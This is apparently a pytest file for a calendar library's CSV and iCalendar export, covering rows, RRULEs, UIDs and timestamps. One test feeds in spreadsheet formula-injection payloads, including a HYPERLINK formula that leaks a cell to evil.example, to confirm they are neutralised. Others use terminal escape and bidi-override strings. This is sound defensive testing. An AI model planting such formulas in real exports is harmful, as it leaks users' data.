"""The editorial calendar exported: CSV for spreadsheets, iCalendar for calendar apps."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from typing import Any

import icalendar
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

import socialplan
from shown import BIDI, in_document
from socialplan.export import MissingExtra, safe_cell, to_csv, to_ics
from socialplan.testing import loadable_plans, plans

PLAN = socialplan.loads("""
format = "socialplan/1"

[plan]
name = "Panadería Sol, 2027"

[roles.cm]
title = "Community manager"

[channels.ig]
platform = "instagram"

[channels.fb]
platform = "facebook"

[content.pillars.craft]
theme = "The craft"

[[calendar]]
date = 2027-02-05
channel = "ig"
title = "Friday story: the bread of the week"
pillar = "craft"
format = "story"
owner = "cm"
status = "scheduled"
repeat = "weekly"
until = 2027-06-25

[[calendar]]
date = 2027-02-01
channel = "fb"
title = "Carnival cakes: order by Friday"

[[calendar]]
date = 2027-02-05
channel = "ig"
title = "4 a.m.: the first loaves"
pillar = "nowhere"
owner = "nobody"
status = "approved"
""")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def calendar_with(title: str, repeat: socialplan.Duration | None = None) -> socialplan.Plan:
    entry = socialplan.CalendarEntry(
        date=dt.date(2027, 3, 1), channel="ig", title=title, repeat=repeat
    )
    return socialplan.Plan(name="Demo", calendar=(entry,))


def events(text: str) -> list[Any]:
    return list(icalendar.Calendar.from_ical(text).walk("VEVENT"))


# CSV --------------------------------------------------------------------------------------


def test_csv_has_one_row_per_entry_by_date_with_resolved_columns() -> None:
    expected = [
        {
            "date": "2027-02-01",
            "channel": "fb",
            "platform": "facebook",
            "title": "Carnival cakes: order by Friday",
            "pillar": "",
            "pillar_theme": "",
            "format": "",
            "owner": "",
            "owner_title": "",
            "status": "idea",
            "repeat": "",
            "until": "",
        },
        {
            "date": "2027-02-05",
            "channel": "ig",
            "platform": "instagram",
            "title": "Friday story: the bread of the week",
            "pillar": "craft",
            "pillar_theme": "The craft",
            "format": "story",
            "owner": "cm",
            "owner_title": "Community manager",
            "status": "scheduled",
            "repeat": "weekly",
            "until": "2027-06-25",
        },
        {
            "date": "2027-02-05",
            "channel": "ig",
            "platform": "instagram",
            "title": "4 a.m.: the first loaves",
            "pillar": "nowhere",
            "pillar_theme": "",
            "format": "",
            "owner": "nobody",
            "owner_title": "",
            "status": "approved",
            "repeat": "",
            "until": "",
        },
    ]
    assert expected == rows(to_csv(PLAN))


def test_csv_header_comes_first_even_for_an_empty_calendar() -> None:
    header = "date,channel,platform,title,pillar,pillar_theme,format,owner,owner_title,"
    header += "status,repeat,until\r\n"
    assert header == to_csv(socialplan.Plan(name="Empty"))


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "+1",
        "-2",
        "@SUM(A1)",
        "\t=1",
        "\n=1",
        "＝1+1",
    ],
)
def test_csv_neutralises_formulas_with_a_quote(payload: str) -> None:
    (row,) = rows(to_csv(calendar_with(payload)))
    assert "'" + payload == row["title"]


@pytest.mark.parametrize(
    "before",
    [" ", "  \t ", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u2060", "\u3000", " \u200b\n"],
)
@pytest.mark.parametrize("formula", ["=1+1", "+1", "-1", "@SUM(A1)", "＝1"])
def test_csv_neutralises_a_formula_after_blank_or_invisible_characters(
    before: str, formula: str
) -> None:
    (row,) = rows(to_csv(calendar_with(before + formula)))
    assert "'" == row["title"][:1]


@pytest.mark.parametrize("text", ["  spaced", "\u200bhidden", "a=b", "\n\nfine"])
def test_csv_leaves_text_that_is_no_formula_after_blanks_alone(text: str) -> None:
    (row,) = rows(to_csv(calendar_with(text)))
    assert in_document(text) == row["title"]


def test_csv_writes_a_carriage_return_as_a_line_feed() -> None:
    (row,) = rows(to_csv(calendar_with("\r=1\r\nsecond\rthird")))
    assert "'\n=1\nsecond\nthird" == row["title"]


def test_csv_shows_control_characters_and_bidi_overrides_as_escapes() -> None:
    (row,) = rows(to_csv(calendar_with("Sale\x1b]0;pwned\x07 \x9b2J\u202eevil\ttab")))
    assert "Sale\\u001b]0;pwned\\u0007 \\u009b2J\\u202eevil\ttab" == row["title"]


def test_safe_cell_leaves_ordinary_text_alone() -> None:
    assert ["Carnival cakes", "", "20% off", "a=b"] == [
        safe_cell(t) for t in ("Carnival cakes", "", "20% off", "a=b")
    ]


def test_csv_cells_keep_commas_quotes_and_newlines() -> None:
    title = 'Bread, "real" bread\nand more'
    (row,) = rows(to_csv(calendar_with(title)))
    assert title == row["title"]


@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow])
@given(loadable_plans(max_items=3))
def test_csv_keeps_every_title_runs_no_formula_and_is_the_same_for_the_same_plan(
    plan: socialplan.Plan,
) -> None:
    text = to_csv(plan)
    table = list(csv.reader(io.StringIO(text, newline="")))
    risky = [c for row in table for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_date = sorted(plan.calendar, key=lambda e: e.date)
    changed = [
        (entry.title, row["title"])
        for entry, row in zip(by_date, rows(text), strict=True)
        if row["title"] not in (in_document(entry.title), "'" + in_document(entry.title))
    ]
    again = to_csv(socialplan.loads(socialplan.dumps(plan)))
    assert (len(plan.calendar) + 1, [], [], text) == (len(table), risky, changed, again)


# iCalendar --------------------------------------------------------------------------------


def test_ics_has_one_all_day_event_per_entry() -> None:
    found = [(e.decoded("dtstart"), str(e["summary"])) for e in events(to_ics(PLAN))]
    assert [
        (dt.date(2027, 2, 1), "[fb] Carnival cakes: order by Friday"),
        (dt.date(2027, 2, 5), "[ig] Friday story: the bread of the week"),
        (dt.date(2027, 2, 5), "[ig] 4 a.m.: the first loaves"),
    ] == found


def test_ics_calendar_names_the_product_and_the_plan() -> None:
    lines = to_ics(PLAN).split("\r\n")
    assert (
        "BEGIN:VCALENDAR",
        [
            "PRODID:-//socialplan//socialplan//EN",
            "VERSION:2.0",
            "X-WR-CALNAME:Panadería Sol\\, 2027",
        ],
    ) == (lines[0], sorted(x for x in lines if x.startswith(("PRODID", "VERSION", "X-WR"))))


def test_ics_lines_end_in_crlf() -> None:
    text = to_ics(calendar_with("one\r\ntwo\rthree"))
    lines = text.split("\r\n")
    assert ("", []) == (lines[-1], [x for x in lines if "\n" in x or "\r" in x])


def test_ics_weekly_repeat_with_until_is_a_weekly_rrule() -> None:
    event = events(to_ics(PLAN))[1]
    assert {"FREQ": ["WEEKLY"], "UNTIL": [dt.date(2027, 6, 25)]} == dict(event["rrule"])


@pytest.mark.parametrize(
    ("repeat", "rrule"),
    [
        ("daily", {"FREQ": ["DAILY"]}),
        ("2 weeks", {"FREQ": ["WEEKLY"], "INTERVAL": [2]}),
        ("10 days", {"FREQ": ["DAILY"], "INTERVAL": [10]}),
        ("monthly", {"FREQ": ["MONTHLY"]}),
        ("quarterly", {"FREQ": ["MONTHLY"], "INTERVAL": [3]}),
        ("2 meses", {"FREQ": ["MONTHLY"], "INTERVAL": [2]}),
        ("yearly", {"FREQ": ["YEARLY"]}),
        ("PT48H", {"FREQ": ["DAILY"], "INTERVAL": [2]}),
    ],
)
def test_ics_repeat_becomes_an_rrule_in_the_unit_it_was_written_in(
    repeat: str, rrule: dict[str, list[object]]
) -> None:
    (event,) = events(to_ics(calendar_with("Tip", repeat=socialplan.Duration.parse(repeat))))
    assert rrule == dict(event["rrule"])


def test_ics_repeat_shorter_than_a_day_stays_in_the_description() -> None:
    (event,) = events(to_ics(calendar_with("Tip", repeat=socialplan.Duration.parse("2h"))))
    assert (None, True) == (event.get("rrule"), "Repeats: 2h" in str(event["description"]))


def test_ics_description_categories_and_status() -> None:
    event = events(to_ics(PLAN))[1]
    description = (
        "Channel: ig (instagram)\nPillar: craft (The craft)\nFormat: story\n"
        "Owner: cm (Community manager)\nStatus: scheduled\nRepeats: weekly until 2027-06-25"
    )
    assert (description, ["ig", "craft", "story"], "CONFIRMED") == (
        str(event["description"]),
        [str(c) for c in event["categories"].cats],
        str(event["status"]),
    )


def test_ics_ideas_and_drafts_are_tentative() -> None:
    assert ["TENTATIVE", "CONFIRMED", "CONFIRMED"] == [
        str(e["status"]) for e in events(to_ics(PLAN))
    ]


def test_ics_title_with_commas_semicolons_and_newlines_round_trips() -> None:
    title = 'Bread; butter, and "jam"\nsecond line \\ backslash'
    (event,) = events(to_ics(calendar_with(title)))
    assert "[ig] " + title == str(event["summary"])


def test_ics_uids_differ_for_identical_entries_and_survive_reordering() -> None:
    entry = socialplan.CalendarEntry(date=dt.date(2027, 3, 1), channel="ig", title="Same")
    other = socialplan.CalendarEntry(date=dt.date(2027, 3, 2), channel="fb", title="Other")
    first = socialplan.Plan(name="Demo", calendar=(entry, entry, other))
    second = socialplan.Plan(name="Demo", calendar=(other, entry, entry))
    uids = [str(e["uid"]) for e in events(to_ics(first))]
    assert (3, uids, True) == (
        len(set(uids)),
        [str(e["uid"]) for e in events(to_ics(second))],
        all(u.endswith("@socialplan") for u in uids),
    )


def test_ics_dtstamp_is_the_entry_date_without_source_date_epoch(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    stamps = [e.decoded("dtstamp") for e in events(to_ics(PLAN))]
    utc = dt.UTC
    assert [
        dt.datetime(2027, 2, 1, tzinfo=utc),
        dt.datetime(2027, 2, 5, tzinfo=utc),
        dt.datetime(2027, 2, 5, tzinfo=utc),
    ] == stamps


def test_ics_dtstamp_comes_from_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    stamps = {e.decoded("dtstamp") for e in events(to_ics(PLAN))}
    assert {dt.datetime(2026, 1, 1, tzinfo=dt.UTC)} == stamps


def test_ics_stamp_argument_wins_over_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    stamp = dt.datetime(2027, 1, 1, 12, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    stamps = {e.decoded("dtstamp") for e in events(to_ics(PLAN, stamp=stamp))}
    assert {dt.datetime(2027, 1, 1, 10, 30, tzinfo=dt.UTC)} == stamps


def test_ics_refuses_a_source_date_epoch_that_is_not_a_number(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "yesterday")
    with pytest.raises(ValueError, match="SOURCE_DATE_EPOCH='yesterday'"):
        to_ics(PLAN)


def test_ics_without_icalendar_names_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "icalendar", None)
    with pytest.raises(MissingExtra, match=r"pip install 'socialplan\[ics\]'") as info:
        to_ics(PLAN)
    assert ("ics", True) == (info.value.extra, isinstance(info.value, ImportError))


#: Text with no control character, line separator or bidi override (shown as \uXXXX).
printable = st.text(
    st.characters(exclude_categories=["Cs", "Cc", "Zl", "Zp"], exclude_characters=BIDI),
    max_size=60,
)


@settings(max_examples=50)
@given(printable)
@example("C:\\News and \\n, not a line break")  # icalendar alone turns \N into one
def test_ics_any_printable_title_round_trips(title: str) -> None:
    (event,) = events(to_ics(calendar_with(title)))
    assert "[ig] " + title == str(event["summary"])


@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow])
@given(loadable_plans(max_items=3))
def test_ics_has_an_event_per_entry_and_is_the_same_for_the_same_plan(
    plan: socialplan.Plan,
) -> None:
    text = to_ics(plan)
    dates = sorted(e.decoded("dtstart") for e in events(text))
    again = to_ics(socialplan.loads(socialplan.dumps(plan)))
    assert (sorted(e.date for e in plan.calendar), text) == (dates, again)


@settings(max_examples=20, suppress_health_check=[HealthCheck.too_slow])
@given(plans())
def test_exports_of_valid_plans_parse_back(plan: socialplan.Plan) -> None:
    assert (len(plan.calendar), len(plan.calendar)) == (
        len(events(to_ics(plan))),
        len(rows(to_csv(plan))),
    )
